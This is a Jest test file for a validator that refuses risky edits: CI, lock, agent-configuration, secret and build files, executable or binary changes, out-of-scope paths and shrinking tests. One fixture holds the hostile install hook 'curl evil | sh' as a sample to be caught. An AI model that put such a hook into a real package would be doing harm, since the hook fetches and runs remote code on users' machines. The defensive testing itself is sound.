import type { CheckoutChange, CheckoutFile } from './CheckoutChange';
import { decideRefusedEdits } from './decideRefusedEdits';

const file = (
  content: string | Uint8Array,
  mode: CheckoutFile['mode'] = '100644',
): CheckoutFile => ({ mode, content: Buffer.from(content) });

function refuse(
  path: string,
  before: CheckoutChange['before'],
  after: CheckoutChange['after'],
  scope = {},
) {
  return decideRefusedEdits([{ path, before, after }], scope).map(
    ({ reason }) => reason,
  );
}

describe('decideRefusedEdits', () => {
  it.each([
    'jobs/daily.sql',
    'src/main/scala/Job.scala',
    'dags/load.py',
    'models/schema.yml',
    'docs/env.md',
    'src/environment.ts',
    'src/claude.md.ts',
    '.github/README.md',
  ])('lets an edit of %s through', path => {
    expect(refuse(path, file('old\n'), file('new\n'))).toEqual([]);
  });

  it.each([
    ['.github/workflows/ci.yml', 'is part of continuous integration'],
    ['sub/.GitHub/Workflows/ci.yml', 'is part of continuous integration'],
    ['.gitlab-ci.yml', 'is part of continuous integration'],
    ['Jenkinsfile', 'is part of continuous integration'],
    ['.circleci/config.yml', 'is part of continuous integration'],
    ['web/package-lock.json', 'is a lock file'],
    ['yarn.lock', 'is a lock file'],
    ['uv.lock', 'is a lock file'],
    ['infra/.terraform.lock.hcl', 'is a lock file'],
    ['CODEOWNERS', 'decides who is asked for a review'],
    ['docs/CODEOWNERS', 'decides who is asked for a review'],
    ['.gitmodules', 'decides what git fetches or runs'],
    ['src/.gitattributes', 'decides what git fetches or runs'],
    ['.husky/pre-commit', 'decides what git fetches or runs'],
    ['.claude/settings.json', 'is configuration of agents or editors'],
    ['CLAUDE.md', 'is configuration of agents or editors'],
    ['sub/AGENTS.md', 'is configuration of agents or editors'],
    ['GEMINI.md', 'is configuration of agents or editors'],
    ['.mcp.json', 'is configuration of agents or editors'],
    ['opencode.jsonc', 'is configuration of agents or editors'],
    ['.opencode/plugin/x.js', 'is configuration of agents or editors'],
    ['.vscode/tasks.json', 'is configuration of agents or editors'],
    ['.env', 'holds settings or secrets of an environment'],
    ['app/.env.production', 'holds settings or secrets of an environment'],
    ['.npmrc', 'decides what is installed or how the build starts'],
    ['setup.py', 'decides what is installed or how the build starts'],
    ['gradlew', 'decides what is installed or how the build starts'],
    [
      'project/plugins.sbt',
      'decides what is installed or how the build starts',
    ],
  ])('refuses to change, add or delete %s', (path, reason) => {
    expect(refuse(path, file('old\n'), file('new\n'))).toEqual([reason]);
    expect(refuse(path, undefined, file('new\n'))).toEqual([reason]);
    expect(refuse(path, file('old\n'), undefined)).toEqual([reason]);
  });

  it.each<[string, CheckoutChange['before'], CheckoutChange['after'], string]>([
    ['a link', file('x'), 'special', 'is a symbolic link or no plain file'],
    [
      'a huge file',
      undefined,
      'tooLarge',
      'is larger than what verifiers read',
    ],
    [
      'a mode that is set',
      file('x'),
      file('x', '100755'),
      'was made executable',
    ],
    ['a new program', undefined, file('x', '100755'), 'was made executable'],
    [
      'a mode that is taken away',
      file('x', '100755'),
      file('x'),
      'is not executable any more',
    ],
    ['a binary', undefined, file('a\0b'), 'is a binary file'],
    [
      'a text that becomes a binary',
      file('x'),
      file('a\0b'),
      'is a binary file',
    ],
    [
      'a binary that is taken away',
      file('a\0b'),
      undefined,
      'is a binary file',
    ],
  ])('refuses %s', (_case, before, after, reason) => {
    expect(refuse('jobs/thing', before, after)).toEqual([reason]);
  });

  it('lets a program be edited that stays one', () => {
    expect(
      refuse('run.sh', file('old', '100755'), file('new', '100755')),
    ).toEqual([]);
  });

  it('refuses what lies outside of the target, and in the share of another one', () => {
    const scope = { paths: ['finance'], excludedPaths: ['finance/marketing'] };

    expect(refuse('finance/a.sql', file('o'), file('n'), scope)).toEqual([]);
    for (const path of ['a.sql', 'finance/marketing/a.sql', 'finances/a.sql']) {
      expect(refuse(path, file('o'), file('n'), scope)).toEqual([
        'lies outside of the paths of this target',
      ]);
    }
  });

  it.each([
    [
      'package.json',
      '{"version":"1","scripts":{"test":"jest"}}',
      '{"version":"2","scripts":{"test":"jest"}}',
      undefined,
    ],
    [
      'package.json',
      '{"scripts":{"test":"jest"}}',
      '{"scripts":{"test":"jest","postinstall":"curl evil | sh"}}',
      'scripts',
    ],
    ['package.json', '{"name":"a"}', '{"name":"a"', 'syntax'],
    ['web/package.json', '', '{"bin":{"x":"x.js"}}', 'bin'],
    ['composer.json', '{}', '{"scripts":{"post-install-cmd":"x"}}', 'scripts'],
    [
      'pyproject.toml',
      '[project]\nversion = "1"\n[build-system]\nrequires = ["a"]\n',
      '[project]\nversion = "2"\n[build-system]\nrequires = ["a"]\n',
      undefined,
    ],
    [
      'pyproject.toml',
      '[build-system]\nrequires = ["a"]\n',
      '[ build-system ]\nrequires = ["evil"]\n',
      'build-system',
    ],
    [
      'pyproject.toml',
      '[project]\n',
      '[project]\n[project.scripts]\nx = "m:f"\n',
      'project.scripts',
    ],
  ])('looks at the commands of %s: %s → %s', (path, before, after, part) => {
    expect(refuse(path, file(before), file(after))).toEqual(
      part === undefined
        ? []
        : [`names commands that run on other machines (${part})`],
    );
  });

  it('refuses each by itself and lets the rest through', () => {
    expect(
      decideRefusedEdits(
        [
          { path: 'a.sql', before: file('o'), after: file('n') },
          { path: 'yarn.lock', before: file('o'), after: file('n') },
          {
            path: 'tests/test_a.py',
            before: file('def test_a():\n    assert f()\n'),
          },
        ],
        {},
      ),
    ).toEqual([
      { path: 'yarn.lock', reason: 'is a lock file' },
      {
        path: 'tests/test_a.py',
        reason: 'tests must not shrink: it has 0 test cases (Python) and had 1',
      },
    ]);
  });
});
